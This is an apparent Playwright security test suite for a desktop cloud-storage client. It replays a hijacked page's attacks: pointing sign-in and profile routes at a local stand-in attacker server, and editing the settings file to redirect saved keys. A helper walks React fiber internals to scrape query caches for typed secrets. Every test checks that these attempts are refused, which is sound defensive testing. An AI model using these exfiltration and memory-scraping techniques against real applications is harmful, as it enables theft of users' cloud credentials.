/**
 * A hijacked page: arbitrary JavaScript in the renderer, calling the exposed API and reading whatever the page's own
 * memory holds, against the real handler registry, SDK, emulator and local servers. Every attack of the security
 * review is repeated here and must find itself refused, with no request reaching the attacker's host before the
 * user said Yes.
 */
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { OWNER, SEED } from '../support/accounts';
import { startCountingServer, type CountingServer } from '../support/counting-server';
import { expect, test } from '../support/fixtures';
import { startProxy } from '../support/proxy';

let attacker: CountingServer;
test.beforeEach(async () => {
  attacker = await startCountingServer();
});
test.afterEach(async () => {
  await attacker.close();
});

/** Runs in the page, as an injected script would: the preload's API is all it has. */
function fromPage(page: Page, method: string, input?: unknown): Promise<{ ok: boolean; error?: { code: string; params?: Record<string, unknown>; issues?: { path: string; rule: string }[] } }> {
  return page.evaluate(
    ([name, arg]) => (window as unknown as Record<string, Record<string, (i: unknown) => Promise<unknown>>>).cosDesk[name as string](arg),
    [method, input] as const,
  ) as never;
}

/**
 * What a script in the page can dig out of React's internals: the query client behind the provider, and every
 * mutation's and query's state, variables included.
 */
function readQueryCaches(page: Page): Promise<string> {
  return page.evaluate(() => {
    const root = document.getElementById('root') as unknown as Record<string, unknown>;
    const key = Object.keys(root).find((k) => k.startsWith('__reactContainer$'));
    type Fiber = { child?: Fiber; sibling?: Fiber; memoizedProps?: { client?: Record<string, () => { getAll(): { state: unknown }[] }> } };
    const stack: (Fiber | undefined)[] = [key ? (root[key] as Fiber) : undefined];
    let client: Record<string, () => { getAll(): { state: unknown }[] }> | undefined;
    while (stack.length > 0 && !client) {
      const fiber = stack.pop();
      if (!fiber) continue;
      const candidate = fiber.memoizedProps?.client;
      if (candidate && typeof candidate.getMutationCache === 'function') client = candidate;
      stack.push(fiber.child, fiber.sibling);
    }
    if (!client) throw new Error('no query client found');
    const all = (cache: { getAll(): { state: unknown }[] }) => cache.getAll().map((entry) => entry.state);
    return JSON.stringify({ mutations: all(client.getMutationCache()), queries: all(client.getQueryCache()) });
  });
}

const newProfileTo = (route: Record<string, unknown>) => ({
  alias: 'Looks harmless',
  secretId: `AKID${'P'.repeat(124)}`,
  secretKey: 'ChosenByThePage',
  region: 'ap-guangzhou',
  https: false,
  ...route,
});

test('a new profile aimed at the attacker’s host asks the user first; No sends nothing and reveals nothing', async ({ launch }) => {
  // The user answers No to anything but the emulator they set up themselves.
  const { page, consentAsked } = await launch({ seed: SEED });
  const routes = [
    { endpoint: attacker.address },
    { serviceDomain: attacker.address },
    { bucketDomain: `{Bucket}.${attacker.address}` },
    { proxyUrl: `http://${attacker.address}` },
  ];
  for (const route of routes) {
    expect(await fromPage(page, 'signIn', newProfileTo(route))).toMatchObject({ ok: false, error: { code: 'RouteRefused' } });
    expect(await fromPage(page, 'saveProfile', { ...newProfileTo(route), temporary: false })).toMatchObject({ ok: false, error: { code: 'RouteRefused' } });
  }
  // "Is port N open?" gets the same answer for an open and a closed port.
  const closed = await fromPage(page, 'signIn', newProfileTo({ endpoint: '127.0.0.1:9' }));
  expect(closed).toMatchObject({ ok: false, error: { code: 'RouteRefused' } });

  expect(attacker.requests).toHaveLength(0);
  expect(consentAsked.length).toBeGreaterThanOrEqual(routes.length);
  expect(consentAsked[0]).toEqual({ profileAlias: 'Looks harmless', host: '127.0.0.1', port: attacker.port, kind: 'endpoint' });
  expect(await fromPage(page, 'getSession')).toMatchObject({ ok: true, data: { signedIn: false, profiles: [] } });
});

test('after a Yes, the attacker’s host gets its request but the page gets only code and status back', async ({ launch }) => {
  const { page } = await launch({ seed: SEED, consent: () => true });
  const answer = await fromPage(page, 'signIn', newProfileTo({ endpoint: attacker.address }));
  expect(attacker.requests).toHaveLength(1);
  expect(answer).toMatchObject({ ok: false, error: { code: 'SignatureDoesNotMatch' } });
  expect(JSON.stringify(answer)).not.toContain('attacker-data');
});

test('saved keys go nowhere new without the SecretKey typed again', async ({ launch }) => {
  const { page, emulator } = await launch({ seed: SEED, signInAs: 0, consent: () => true });
  const session = (await fromPage(page, 'getSession')) as unknown as { data: { profile: { id: string } } };
  const id = session.data.profile.id;
  const moves = [{ endpoint: attacker.address }, { endpoint: emulator.address, proxyUrl: `http://${attacker.address}` }, { endpoint: emulator.address, serviceDomain: attacker.address }];
  for (const move of moves) {
    const answer = await fromPage(page, 'saveProfile', { id, temporary: false, region: 'ap-guangzhou', https: false, ...move });
    expect(answer).toMatchObject({ ok: false, error: { code: 'ValidationError', issues: [{ path: 'secretKey' }] } });
  }
  expect(attacker.requests).toHaveLength(0);
});

test('removing the proxy over plain HTTP is a route change: refused without the SecretKey, nothing sent', async ({ launch }) => {
  const proxy = await startProxy();
  try {
    const { page, emulator } = await launch({ seed: SEED, consent: () => true });
    const signedIn = await fromPage(page, 'signIn', {
      secretId: OWNER.secretId,
      secretKey: OWNER.secretKey,
      region: 'ap-guangzhou',
      https: false,
      endpoint: emulator.address,
      proxyUrl: proxy.url,
    });
    expect(signedIn).toMatchObject({ ok: true });
    const id = ((await fromPage(page, 'getSession')) as unknown as { data: { profile: { id: string } } }).data.profile.id;
    const seen = { proxy: proxy.requests().length, emulator: emulator.requests().length };
    const answer = await fromPage(page, 'saveProfile', { id, temporary: false, region: 'ap-guangzhou', https: false, endpoint: emulator.address });
    expect(answer).toMatchObject({ ok: false, error: { code: 'ValidationError', issues: [{ path: 'secretKey' }] } });
    expect({ proxy: proxy.requests().length, emulator: emulator.requests().length }).toEqual(seen);
  } finally {
    await proxy.close();
  }
});

test('keys typed into the forms are not left in the page’s query caches', async ({ launch }) => {
  const { page, emulator } = await launch({ seed: SEED });
  const signIn = page.getByRole('dialog', { name: 'Sign in' });
  await signIn.getByLabel('SecretId').fill(OWNER.secretId);
  await signIn.getByLabel('SecretKey').fill(OWNER.secretKey);
  await signIn.getByLabel('Use HTTPS').uncheck();
  await signIn.getByText('Advanced').click();
  await signIn.getByLabel('Endpoint').fill(emulator.address);
  await signIn.getByRole('button', { name: 'Test and save' }).click();
  await expect(page.getByRole('table', { name: 'Buckets' })).toContainText('photos-1250000000');
  expect(await readQueryCaches(page)).not.toContain(OWNER.secretKey);

  // Edit: the key typed again, and a proxy password.
  await page.getByRole('banner').getByRole('button', { name: 'Profiles' }).click();
  await page.getByRole('listitem').first().getByRole('button', { name: 'Edit' }).click();
  const edit = page.getByRole('dialog', { name: 'Edit profile' });
  await edit.getByLabel('SecretKey').fill(OWNER.secretKey);
  await edit.getByLabel('Proxy', { exact: true }).fill(`http://${attacker.address}`);
  await edit.getByLabel('Proxy user name (optional)').fill('desk');
  await edit.getByLabel('Proxy password (optional)').fill('ProxyPasswordTypedInTheForm');
  await edit.getByRole('button', { name: 'Test and save' }).click();
  // The attacker's address is not the user's emulator: the user said No, so the edit fails and nothing was sent.
  await expect(edit.getByText('RouteRefused', { exact: true })).toBeVisible();
  expect(attacker.requests).toHaveLength(0);
  const cached = await readQueryCaches(page);
  expect(cached).not.toContain(OWNER.secretKey);
  expect(cached).not.toContain('ProxyPasswordTypedInTheForm');
});

test('a route changed in the settings file makes the profile ask for its SecretKey instead of sending it', async ({ launch }) => {
  const userDataDir = mkdtempSync(join(tmpdir(), 'cos-desk-e2e-restart-'));
  const cipherKey = randomBytes(32);
  try {
    const first = await launch({ seed: SEED, signInAs: 0, userDataDir, cipherKey });
    await expect(first.page.getByRole('table', { name: 'Buckets' })).toContainText('photos-1250000000');
    const file = join(userDataDir, 'settings.json');
    expect(statSync(file).mode & 0o777).toBe(0o600);
    await first.close();

    // Untouched, the next start reopens the profile with its saved keys (reopening sends nothing).
    const untouched = await launch({ seed: SEED, userDataDir, cipherKey });
    expect(await fromPage(untouched.page, 'getSession')).toMatchObject({ ok: true, data: { signedIn: true } });
    await untouched.close();

    // Whoever can write the file points the saved profile at their own host.
    const settings = JSON.parse(readFileSync(file, 'utf8')) as { profiles: Record<string, unknown>[] };
    settings.profiles[0].endpoint = attacker.address;
    writeFileSync(file, JSON.stringify(settings));

    // Even a user who would say Yes to anything is not asked: the keys are not sent there at all.
    const next = await launch({ seed: SEED, userDataDir, cipherKey, consent: () => true });
    await expect(next.page.getByRole('dialog', { name: 'Enter the keys again' })).toBeVisible();
    const id = settings.profiles[0].id as string;
    expect(await fromPage(next.page, 'switchProfile', { id })).toMatchObject({ ok: false, error: { code: 'KeysNeeded' } });
    expect(await fromPage(next.page, 'testProfile', { id })).toMatchObject({ ok: false, error: { code: 'KeysNeeded' } });
    const reuse = await fromPage(next.page, 'saveProfile', { id, temporary: false, region: 'ap-guangzhou', https: false, endpoint: attacker.address });
    expect(reuse).toMatchObject({ ok: false, error: { code: 'ValidationError' } });
    expect(attacker.requests).toHaveLength(0);
    expect(next.consentAsked).toEqual([]);
  } finally {
    rmSync(userDataDir, { recursive: true, force: true });
  }
});
